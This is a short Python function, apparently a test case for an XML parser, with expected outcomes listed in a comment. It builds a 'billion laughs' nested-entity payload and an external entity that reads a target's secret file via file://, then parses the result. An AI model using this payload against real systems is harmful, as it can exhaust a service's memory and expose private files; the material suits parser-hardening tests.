# Expands entities of entities, as XML allows.
# ends: runtime_error, ok, resource, timeout
import xml.etree.ElementTree


def solve(target):
    lines = ['<!ENTITY a0 "lol">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    outside = f'<!ENTITY file SYSTEM "file://{target["secret_file"]}">'
    text = f"<!DOCTYPE x [{''.join(lines)}{outside}]><x>&a9;&file;</x>"
    return len(xml.etree.ElementTree.fromstring(text).text)
